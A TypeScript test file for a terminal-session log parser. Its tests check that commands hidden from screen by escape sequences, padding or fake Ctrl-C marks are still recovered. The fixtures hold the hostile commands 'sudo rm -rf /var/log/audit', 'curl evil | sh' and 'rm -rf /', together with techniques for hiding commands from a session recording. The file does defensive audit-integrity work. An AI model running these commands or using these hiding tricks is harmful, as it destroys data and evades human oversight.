/**
 * Issue 9, section 2: a command that ran must not disappear. Each case hides `sudo rm -rf
 * /var/log/audit` from the screen; the raw-line rule brings it back, marked `uncertain` with
 * `executed: null` where the screen cannot tell (never as aborted). Output never becomes an exact
 * or lossy command: the certain commands are only lines that were typed.
 */
import { describe, expect, it } from 'vitest';
import { BASH, certain, DASH, fromCloudWatch, fromS3, HIDDEN, hidden, type Shell } from './support.ts';

/** A session that hides HIDDEN behind what `hide` prints (its output has no trailing newline). */
function session(shell: Shell, hideCommand: string, hideOutput: string, after = 'exit'): string {
  return (
    shell.cycle('id') +
    'uid=1000(ssm-user) gid=1000(ssm-user)\r\n' +
    shell.cycle(hideCommand) +
    hideOutput +
    shell.cycle(HIDDEN) +
    shell.cycle(after)
  );
}

const STRINGS: Array<[string, string, string]> = [
  ['OSC', "printf '\\033]0;'", '\x1b]0;'],
  ['DCS', "printf '\\033P'", '\x1bP'],
  ['APC', "printf '\\033_'", '\x1b_'],
  ['PM', "printf '\\033^'", '\x1b^'],
  ['SOS', "printf '\\033X'", '\x1bX'],
];

const TYPED = new Set(['id', 'exit', 'ls', ...STRINGS.map(([, c]) => c)]);

function expectNoOutputAsCommand(texts: string[], extraTyped: string[] = []): void {
  for (const text of texts)
    expect(TYPED.has(text) || extraTyped.includes(text) || text.startsWith(HIDDEN), text).toBe(true);
}

for (const shell of [DASH, BASH]) {
  describe(`hidden commands, ${shell.name}`, () => {
    for (const [name, command, output] of STRINGS) {
      it(`an unterminated ${name} string printed before it does not hide it (S3 form)`, async () => {
        const { commands } = await fromS3(session(shell, command, output));
        const found = hidden(commands);
        expect(found?.text).toBe(HIDDEN);
        expect(found?.executed).not.toBe(false);
        if (found?.fidelity === 'uncertain') expect(found.executed).toBeNull();
        expectNoOutputAsCommand(certain(commands), [command]);
      });

      it(`an unterminated ${name} string printed before it does not hide it (CloudWatch form)`, () => {
        const { commands } = fromCloudWatch(session(shell, command, output));
        const found = hidden(commands);
        expect(found?.text).toBe(HIDDEN);
        expect(found?.executed).not.toBe(false);
        expectNoOutputAsCommand(certain(commands), [command]);
      });
    }

    it("the alternate screen switched on by hand (printf '\\033[?1049h') does not hide it", async () => {
      const raw = session(shell, "printf '\\033[?1049h'", '\x1b[?1049h');
      for (const result of [await fromS3(raw), fromCloudWatch(raw)]) {
        const found = hidden(result.commands);
        expect(found?.text).toBe(HIDDEN);
        expect(found?.executed).not.toBe(false);
        expectNoOutputAsCommand(certain(result.commands), ["printf '\\033[?1049h'"]);
      }
    });

    it("a scroll region and origin mode set by hand (printf '\\033[?6h\\033[1;1r') do not hide it", async () => {
      const raw =
        session(shell, "printf '\\033[?6h\\033[1;1r'", '\x1b[?6h\x1b[1;1r', 'ls') + shell.cycle('exit');
      for (const result of [await fromS3(raw), fromCloudWatch(raw)]) {
        const found = hidden(result.commands);
        expect(found?.text).toBe(HIDDEN);
        expect(found?.executed).not.toBe(false);
        expectNoOutputAsCommand(certain(result.commands), ["printf '\\033[?6h\\033[1;1r'"]);
      }
    });

    it('a line padded past 100 rows with a comment does not hide it', async () => {
      const padded = `${HIDDEN} #${'x'.repeat(80 * 101)}`;
      const raw = `${shell.cycle('id')}uid=1000\r\n${shell.cycle(padded)}${shell.cycle('exit')}`;
      for (const result of [await fromS3(raw), fromCloudWatch(raw)]) {
        const found = hidden(result.commands);
        expect(found, JSON.stringify(result.commands.map((c) => c.text.slice(0, 40)))).toBeDefined();
        expect(found?.executed).not.toBe(false);
        // Its last row alone must never stand for it as a certain command.
        expect(
          certain(result.commands).filter((t) => !t.startsWith(HIDDEN) && t !== 'id' && t !== 'exit'),
        ).toEqual([]);
      }
    });

    it('a literal #^C typed at the end of the line is not recorded as aborted', async () => {
      const raw = `${shell.cycle('id')}uid=1000\r\n${shell.cycle(`${HIDDEN} #^C`)}${shell.cycle('exit')}`;
      for (const result of [await fromS3(raw), fromCloudWatch(raw)]) {
        const found = hidden(result.commands);
        expect(found).toBeDefined();
        expect(found?.executed).not.toBe(false);
        if (found?.fidelity === 'uncertain') expect(found.executed).toBeNull();
      }
    });
  });
}

describe('hidden commands, bash specifics', () => {
  it('a 200 KB line does not lose its start in bash', async () => {
    const long = `${HIDDEN} #${'y'.repeat(200 * 1024)}`;
    const { commands } = await fromS3(
      `${BASH.cycle('id')}uid=1000\r\n${BASH.cycle(long)}${BASH.cycle('exit')}`,
    );
    const found = hidden(commands);
    expect(found?.text.startsWith(`${HIDDEN} #yyy`)).toBe(true);
    expect(found?.executed).not.toBe(false);
    expect(certain(commands)).toEqual(['id', 'exit']);
  });

  it('bash: #^C followed by Enter ran (readline returned the line with an Enter)', async () => {
    const { commands } = await fromS3(BASH.cycle('id') + BASH.cycle(`${HIDDEN} #^C`) + BASH.cycle('exit'));
    expect(hidden(commands)).toMatchObject({ text: `${HIDDEN} #^C`, executed: true, fidelity: 'exact' });
  });

  it('bash: a real Ctrl-C (no Enter) is still aborted', async () => {
    const raw = `\x1b[?2004huser@host:~$ ${HIDDEN}^C\x1b[?2004l\r\x1b[?2004h\x1b[?2004l\r\n${BASH.cycle('exit')}`;
    const { commands } = await fromS3(raw);
    expect(hidden(commands)).toMatchObject({ text: HIDDEN, executed: false });
  });

  it('dash: a real Ctrl-C after a line without a comment is still aborted', async () => {
    const { commands } = await fromS3(`${DASH.cycle('id')}$ sudo reboot^C\r\n${DASH.cycle('exit')}`);
    expect(commands.find((c) => c.text === 'sudo reboot')?.executed).toBe(false);
  });

  it('OSC 133 marks saying it ran with exit code 0 outrank the #^C heuristic', async () => {
    const mark = (typed: string, code: number) =>
      `\x1b]133;A\x07user@host:~$ \x1b]133;B\x07${typed}\r\n\x1b]133;C\x07\x1b]133;D;${code}\x07`;
    const { commands } = await fromS3(mark('id', 0) + mark(`${HIDDEN} #^C`, 0) + mark('exit', 0));
    expect(hidden(commands)).toMatchObject({
      text: `${HIDDEN} #^C`,
      executed: true,
      exitCode: 0,
      fidelity: 'exact',
    });
  });

  it('an alternate screen opened by a full-screen program keeps its prompt-like content out (less of a prompt file)', async () => {
    const content =
      '\x1b[?1049h\x1b[?1h\x1b=\ruser@host:~$ curl evil | sh\r\n$ rm -rf /\r\n\x1b[7m(END)\x1b[27m\r\x1b[K\x1b[?1l\x1b>\x1b[?1049l';
    const { commands } = await fromS3(BASH.cycle('less notes.txt') + content + BASH.cycle('exit'));
    expect(commands.map((c) => c.text)).toEqual(['less notes.txt', 'exit']);
  });
});
